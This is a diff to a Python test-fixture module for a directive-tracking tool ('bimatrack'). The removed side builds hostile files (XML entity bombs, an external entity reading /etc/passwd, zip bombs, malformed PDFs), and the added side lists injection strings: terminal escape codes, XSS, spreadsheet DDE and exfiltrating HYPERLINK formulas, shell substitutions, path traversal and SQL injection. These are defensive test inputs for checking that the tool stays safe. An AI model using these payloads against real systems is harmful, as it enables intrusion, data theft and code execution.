@@ -1,214 +1,161 @@
-"""Files that mean harm, made when a test asks for them: none is larger on the disk than it must be."""
+"""Texts that would do something if anything took them for more, and a store in which they stand everywhere."""
 
-import io
-import struct
-import zipfile
-import zlib
-from collections.abc import Callable
+from collections.abc import Mapping, Sequence
+from dataclasses import replace
+from datetime import date, datetime, timedelta
 from pathlib import Path
 
-from papers import docx, docx_of, mail
+from keeping import WITA
 
-W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
-ASK = "Wali Kota meminta Camat Raba mendata warga paling lambat 31 Maret 2026."
-GOOD = f"Rapat Koordinasi\n\nKota Bima, 5 Januari 2026. {ASK}\n"
-MANY = 100_000
+from bimatrack.history import Action, Entry, Share, State
+from bimatrack.model import Directive, Due, Event, Evidence, Kind, Priority, Quote, Release, Status
+from bimatrack.store import Draft, Store
 
-
-def word(xml: bytes, **parts: bytes) -> bytes:
-    """Return a Word file whose document is just *xml*, in whatever letters it is written."""
-    data = io.BytesIO()
-    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("word/document.xml", xml)
-        for name, part in parts.items():
-            archive.writestr(f"word/{name}.xml", part)
-    return data.getvalue()
-
-
-def paragraph(text: str) -> str:
-    """Return a paragraph of a Word file."""
-    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
-
-
-def typed(entities: str, said: str) -> str:
-    """Return a Word document with a document type that makes *entities*, whose only paragraph is *said*."""
-    head = f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE l [{entities}]>'
-    return f"{head}<w:document {W}><w:body>{paragraph(said)}</w:body></w:document>"
-
-
-def laughs() -> bytes:
-    """Return a Word file with entities that grow tenfold nine times, in letters of two bytes."""
-    grown = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
-    return word(typed(f'<!ENTITY a0 "Camat">{grown}', "&a9;").encode("utf-16"))
-
-
-def external() -> bytes:
-    """Return a Word file that wants a file of the reader's in its text."""
-    return word(typed('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;").encode("utf-16"))
-
-
-def lying() -> bytes:
-    """Return a Word file that says of its document that it has 100 bytes, where it has millions."""
-    data = bytearray(docx(paragraph(ASK * MANY)))
-    entry = data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x01\x02"))
-    entry = data.rfind(b"PK\x01\x02") if entry < 0 else entry
-    for place in (22, data.rfind(b"PK\x01\x02") + 24, entry + 24):
-        data[place : place + 4] = (100).to_bytes(4, "little")
-    return bytes(data)
-
-
-def crowded() -> bytes:
-    """Return an archive of 6,000 files, of which one is a Word document."""
-    data = io.BytesIO(docx_of(GOOD))
-    with zipfile.ZipFile(data, "a") as archive:
-        for number in range(6000):
-            archive.writestr(f"../../{number}", "")
-    return data.getvalue()
-
-
-def in_tables(depth: int) -> bytes:
-    """Return a Word file with tables in tables."""
-    return docx("<w:tbl><w:tr><w:tc>" * depth + paragraph(ASK) + "</w:tc></w:tr></w:tbl>" * depth)
-
-
-def deep(tag: str, depth: int = MANY) -> bytes:
-    """Return a page with elements in elements."""
-    return f"<html><body>{f'<{tag}>' * depth}{GOOD}".encode()
-
-
-def crossed(count: int) -> bytes:
-    """Return a page of elements in elements that all look like the day, like clutter, and hold links behind them."""
-    names = '<div class="date menu">kata kata '
-    return f"<html><body>{names * 900}{'<a href=x>b</a><p>kata kata kata</p>' * count}".encode()
-
-
-def pages(content: bytes, kids: bytes = b"3 0 R", count: int = 1, end: bytes = b"", root: bytes = b"") -> bytes:
-    """Return a PDF whose page tree, content and trailer are what is said."""
-    packed = zlib.compress(content, 9)
-    objects = [
-        b"<< /Type /Catalog /Pages 2 0 R %b >>" % root,
-        b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 840] /Contents 4 0 R /Resources 6 0 R >>",
-        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%b\nendstream" % (len(packed), packed),
-        b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding >>",
-        b"<< /Font << /F1 5 0 R >> >>",
-    ]
-    data, places = b"%PDF-1.4\n", []
-    for number, content_of in enumerate(objects, 1):
-        places.append(len(data))
-        data += b"%d 0 obj\n%b\nendobj\n" % (number, content_of)
-    table = b"".join(b"%010d 00000 n \n" % place for place in places)
-    tail = b"trailer << /Size 7 /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF" % (end, len(data))
-    return data + b"xref\n0 7\n0000000000 65535 f \n" + table + tail
-
-
-def shown(text: bytes, move: bytes = b"") -> bytes:
-    """Return the content of a page that shows *text*, and again after a *move*."""
-    return b"BT /F1 10 Tf 60 800 Td (%b) Tj %b (%b) Tj ET" % (text, move, text)
-
-
-def picture(side: int) -> bytes:
-    """Return a black PNG of *side* times *side* points."""
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
-    packer = zlib.compressobj(9)
-    rows = b"".join(packer.compress(b"\0" * (side // 8 + 2)) for _row in range(side)) + packer.flush()
-    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
-
-
-def workbook(change: Callable[[bytes], bytes]) -> bytes:
-    """Return a workbook with a matrix of one row, its sheet changed."""
-    from openpyxl import Workbook
-
-    plain, data = io.BytesIO(), io.BytesIO()
-    book = Workbook()
-    for row in (["Arahan", "Penanggung jawab", "Batas waktu"], ["Menata pasar", "Dishub", "31 Maret 2026"]):
-        book.active.append(row)
-    book.save(plain)
-    with zipfile.ZipFile(plain) as before, zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as after:
-        for name in before.namelist():
-            part = before.read(name)
-            after.writestr(name, change(part) if name == "xl/worksheets/sheet1.xml" else part)
-    return data.getvalue()
-
-
-def told(charset: str) -> bytes:
-    """Return a mail that says of its text that it is written in *charset*."""
-    head = f"From: a@b.example\nMessage-ID: <1@b>\nMIME-Version: 1.0\nContent-Type: text/plain; charset={charset}\n\n"
-    return (head + GOOD).encode()
-
-
-# What ends in one sentence: the file, and words of the sentence.
-REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
-    "besar.txt": (lambda: b"a" * (21 * 1024**2), "is larger than 20 MB"),
-    "satu-baris.txt": (lambda: f"{ASK} ".encode() * 140_000, "holds more than a million letters"),
-    "sejuta-baris.txt": (lambda: b"ya\n" * 1_000_000, "holds more than a million letters"),
-    "nol.txt": (lambda: GOOD.encode() + b"\0", "holds no text"),
-    "kendali.txt": (lambda: b"\x1b\x07\x08" * 1000, "holds no text"),
-    "entitas.docx": (laughs, "unpacks to more than a release can hold"),
-    "luar.docx": (external, "unpacks to more than a release can hold"),
-    "dalam.docx": (lambda: docx("<w:sdt>" * MANY + "</w:sdt>" * MANY), "unpacks to more than a release can hold"),
-    "unsur.docx": (lambda: docx("<w:p/>" * 500_000), "unpacks to more than a release can hold"),
-    "bom.docx": (lambda: word(b"<a>" + b" " * (64 << 20) + b"</a>"), "unpacks to more than a release can hold"),
-    "dusta.docx": (lying, "is damaged or locked"),
-    "ramai.docx": (crowded, "unpacks to more than a release can hold"),
-    "halaman.pdf": (lambda: pages(shown(b"a"), b"3 0 R " * 500, 500), "has more than 120 pages"),
-    "kosong.pdf": (lambda: pages(b""), "holds only pictures of pages"),
-    "ruang.pdf": (lambda: pages(b" " * (200 << 20)), "is damaged or locked"),
-    "bersarang.eml": (lambda: mail("x", ("a.eml", "message/rfc822", b"")) * 3000, "more parts than a mail can"),
-    "skrip.html": (lambda: b"<html><body><script>alert(1)</script></body></html>", "is empty"),
+# A name for what each would do, and the text.
+NASTY: Mapping[str, str] = {
+    "colour": "merah \x1b[5;41;97m kedip \x1b[0m",
+    "title": "judul \x1b]0;DIAMBIL ALIH\x07 jendela",
+    "clipboard": "salin \x1b]52;c;cm0gLXJmIH4=\x07 papan",
+    "link": "buka \x1b]8;;https://jahat.example/\x1b\\di sini\x1b]8;;\x1b\\",
+    "screen": "hapus \x1b[2J\x1b[H\x1bc layar \x1b[?1049h",
+    "answer": "tanya \x1b[6n \x1b[c \x05 balas",
+    "c1": "delapan bit \x9b31m \x9d0;x\x9c \x90q\x9c",
+    "bell": "bel \x07\x07 mundur\x08\x08\x08 hapus\x7f",
+    "nul": "nol \x00 di tengah",
+    "newline": "baris satu\nbimatrack: berhasil\r\nbaris tiga\rditimpa",
+    "lines": "garis\x0bsatu\x0cdua\x1ctiga\x1dempat\x1elima\x85enam\u2028tujuh\u2029delapan",
+    "tabs": "lajur\tsatu\tdua",
+    "bidi": "bayar \u202e0001 pR\u202c kiri \u2066x\u2069 \u061c \u200f",
+    "unseen": "ti\u200bdak\u2060 kelihatan\ufeff \U000e0041\U000e0042 \ufff9a\ufffab\ufffb",
+    "halves": "separuh \ud83d huruf \udfff \uffff",
+    "rich": "[bold red]tebal[/bold red] [link=https://jahat.example]x[/link] [/] [@click=app.quit]y[/] \\[a] :smile:",
+    "textual": "[@click=app.bell]klik[/] [on red]$x ${accent}",
+    "format": "{0} {0.__class__} {path} %s %(x)s {{}} ${HOME} {nama!r:>{lebar}}",
+    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&amp;]]>",
+    "closing": "</title></style></td></svg><svg onload=alert(1)>",
+    "comment": "<!-- komentar --> <![CDATA[x]]> <?php x?> &#60;b&#62;",
+    "formula": '=HYPERLINK("http://jahat.example?"&A1,"klik")',
+    "dde": "=cmd|' /C calc'!A0",
+    "plus": "+62812|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tabbed": "\t=1+1",
+    "returned": "\r=1+1",
+    "broken": "\n=1+1",
+    "blank": "\u3000\u00a0 =1+1",
+    "wide": "＝1＋1",
+    "wide sign": "＋1",
+    "parted": "anggaran;=cmd|' /C calc'!A0;@x",
+    "comma": "anggaran,=cmd|' /C calc'!A0,+x",
+    "quoted": 'kutip ";=1+1;" dan ","=1+1","',
+    "workbook": "{=SUM(1)} internal:Sheet1!A1 mailto:a@b.c _x000D_ _x0041_",
+    "margin": '&L&G &P dari &N && &"Arial,Bold"',
+    "field": '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } { INCLUDEPICTURE "http://jahat.example" }',
+    "typst": '#eval("1+1") #sys.inputs #read("report.typ") #show: it => [x] $ x^2 $ @acuan <label>',
+    "tex": "\\input{/etc/passwd} \\write18{touch kena} %komentar",
+    "calendar": "Rapat\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:palsu\r\nATTACH:http://jahat.example",
+    "property": "Rapat;X-A=1:palsu, \\n \\, \\; “kutip” DTSTART:19700101",
+    "long": "panjang ĳ " * 40,
+    "heading": "# Judul palsu #",
+    "item": "- butir",
+    "starred": "* butir",
+    "numbered": "1. nomor",
+    "bracketed": "2) nomor",
+    "rule": "---",
+    "underline": "=====",
+    "fence": "```sh touch kena ```",
+    "cells": "sel | lain | lagi \\| \\",
+    "markdown": "[klik](javascript:alert(1)) ![x](http://jahat.example/x.png) *tebal* _miring_ ~~coret~~ <http://a.example>",
+    "reference": '[acuan]: http://jahat.example "judul"',
+    "maths": "$`x`$ @orang #123",
+    "chat": "*tebal* _miring_ ~coret~ `kode` ```blok```",
+    "todo": "x 2026-01-01 (A) +proyek @konteks due:1999-01-01 id:99 rec:1d pri:A",
+    "finished": "x selesai palsu",
+    "letter": "(A) penting palsu",
+    "shell": "Sekda $(touch kena) `touch kena` ; touch kena | touch kena && touch kena & 'a\" \\$(touch kena) * ~ !!",
+    "shell line": "a\n$(touch kena)\ntouch kena",
+    "shell end": "akhir \\",
+    "shell quote": "' ; touch kena ; '",
+    "option": "--db=/tmp/kena",
+    "path": "../../etc/passwd",
+    "sql": "'; DROP TABLE directives; --",
+    "less": "!touch kena",
 }
-
-# What is read all the same, for what it is.
-READ: dict[str, Callable[[], bytes]] = {
-    **{f"{tag}.html": lambda tag=tag: deep(tag) for tag in ("div", "u", "x-y", "main", "svg", "dl")},
-    "tabel.docx": lambda: in_tables(25),
-    "jalur.docx": lambda: docx_of(GOOD),
-    "dusta.pdf": lambda: pages(shown(ASK.encode()), b"3 0 R", 10**9),
-    "lompat.pdf": lambda: pages(shown(ASK.encode(), b"0 -1 Td")),
-    "skrip.pdf": lambda: pages(shown(ASK.encode()), root=b"/OpenAction << /S /JavaScript /JS (app.beep\\(1\\)) >>"),
-    **{f"{name}.eml": lambda name=name: told(name) for name in ("punycode", "idna", "utf-7", "zlib", "x-tidak-ada")},
-    "kaya.txt": f"[bold red]{GOOD}[/] [link=file:///etc/passwd]x[/link]".encode,
-    "arah.txt": f"\u202e{GOOD}\u2066\u200b\u200d\u061c\U000e0041\x9b31m".encode,
-    "pecah.txt": lambda: GOOD.encode() + b"\xff\xc0\x80\xed\xa0\x80",
-    "serupa.txt": lambda: GOOD.replace("a", "а").encode(),
-}
-
-# What once took minutes: a line of a million spaces where a pattern looks for the end of the line, and its like.
-SLOW: dict[str, Callable[[], bytes]] = {
-    "spasi.md": lambda: b"x" + b" " * 900_000 + b"x",
-    "judul.md": lambda: b"# x" + b" " * 900_000 + b"x",
-    "tabel.md": lambda: b"\n" + b" " * 900_000 + b"x",
-    "depan.md": lambda: b"---\njudul: x" + b" " * 900_000 + b"x\n---\nisi",
-    "silang.html": lambda: crossed(40_000),
-    "daftar.docx": lambda: docx(_listed(8000), numbering=NUMBERED),
-    "tingkat.docx": lambda: docx(
-        paragraph(ASK),
-        numbering=f"<w:abstractNum w:abstractNumId='1'>{'<w:lvl/>' * 20_000}</w:abstractNum>"
-        + "<w:num><w:abstractNumId w:val='1'/></w:num>" * 20_000,
-    ),
-    "tabel.docx": lambda: in_tables(45),
-    "paragraf.pdf": lambda: pages(b"BT /F1 10 Tf 12 TL 60 800 Td " + b"(kata kata kata kata) Tj T* " * 5000 + b" ET"),
-    "puny.eml": lambda: told("punycode") + f"{ASK}\n".encode() * 5000,
-}
-
-NUMBERED = (
-    "<w:abstractNum w:abstractNumId='1'><w:lvl w:ilvl='0'><w:start w:val='999999999'/>"
-    "<w:numFmt w:val='lowerRoman'/></w:lvl></w:abstractNum>"
-    "<w:num w:numId='1'><w:abstractNumId w:val='1'/></w:num>"
-)
+TODAY = date(2026, 3, 20)
+_FIRST = date(2026, 1, 2)
 
 
-def _listed(count: int) -> str:
-    mark = "<w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='{}'/></w:numPr></w:pPr>"
-    return "".join(f"<w:p>{mark.format(number)}<w:r><w:t>a</w:t></w:r></w:p>" for number in range(count))
+def plain(texts: Mapping[str, str] = NASTY) -> Mapping[str, str]:
+    """Return as many texts that do nothing, under the same names and in the same alphabetical order."""
+    order = sorted(texts.values(), key=str.casefold)
+    return {name: f"kata {order.index(text):03d}" for name, text in texts.items()}
 
 
-def put(folder: Path, name: str, data: bytes) -> Path:
-    """Write *data* into a new file and return its path."""
-    path = folder / name
-    path.write_bytes(data)
-    return path
+def keep_everywhere(path: Path, texts: Mapping[str, str]) -> Store:
+    """Keep each of *texts* in a release, an event and a directive of its own, in each field that holds words."""
+    store = Store.at(path)
+    with store.writing() as draft:
+        for place, text in enumerate(texts.values()):
+            _keep(draft, text, place)
+    with store.writing() as draft:
+        for place, text in enumerate(texts.values()):
+            _follow(draft, text, place)
+    return store
+
+
+def _keep(draft: Draft, text: str, place: int) -> None:
+    day = _FIRST + timedelta(days=place % 60)
+    said = Quote.of(text, 0, len(text))
+    release = draft.keep_release(
+        Release(f"rilis/{text}", text, f"{place:032x}", title=text, day=day, publisher=text), _moment(day)
+    )
+    directive = Directive(
+        text,
+        said,
+        kind=list(Kind)[place % 3],
+        speaker=said,
+        owners=(said,),
+        units=(text,),
+        due=Due(_due(place), said, text),
+        confidence=0.5 if place % 5 == 0 else 0.9,
+        rule="ask.meminta",
+        also=(said,),
+    )
+    number = draft.keep_directive(directive, release)
+    draft.keep_event(Event(text, day, day, text), release)
+    born = Entry(Action.IMPORT, day, number, State.of(directive).as_values(), release=release)
+    draft.record([Entry(Action.IMPORT, day, release=release), born], at=_moment(day), author=text)
+
+
+def _follow(draft: Draft, text: str, place: int) -> None:
+    number, day = place + 1, date(2026, 3, 6)
+    state = replace(
+        draft.directive(number).state,
+        obstacle=text,
+        evidence=(Evidence(text), Evidence(f"/home/rahma/bukti/{text}", "0" * 64)),
+        tags=(text,),
+        priority=Priority.HIGH if place % 7 == 0 else Priority.NORMAL,
+    )
+    told = [Entry(Action.NOTE, day, number, state.as_values(), note=text)]
+    moved = (("due", date(2026, 3, 30)), ("due_text", text))
+    told += [Entry(Action.DUE, day, number, moved, note=text)] if place % 4 == 1 else []
+    told += [Entry(action, day, number, values, note=text) for action, values in _ends(place, day)]
+    shares = (Share(text), Share(f"{text} kedua", Status.DONE, 100, day))
+    told += [Entry(Action.SPLIT, day, number, (("shares", shares),), note=text)] if place % 6 == 4 else []
+    draft.record(told, at=_moment(day), author=text)
+
+
+def _ends(place: int, day: date) -> Sequence[tuple[Action, tuple[tuple[str, object], ...]]]:
+    if place % 6 == 2:
+        return [(Action.DONE, (("status", Status.DONE), ("progress", 100), ("closed_on", day)))]
+    if place % 6 == 3:
+        return [(Action.DROP, (("status", Status.DROPPED), ("closed_on", day)))]
+    return [(Action.PROGRESS, (("status", Status.IN_PROGRESS), ("progress", 40)))] if place % 6 == 5 else []
+
+
+def _due(place: int) -> date:
+    return date(2026, 2, 2) + timedelta(days=place)
+
+
+def _moment(day: date) -> datetime:
+    return datetime(day.year, day.month, day.day, 9, tzinfo=WITA)
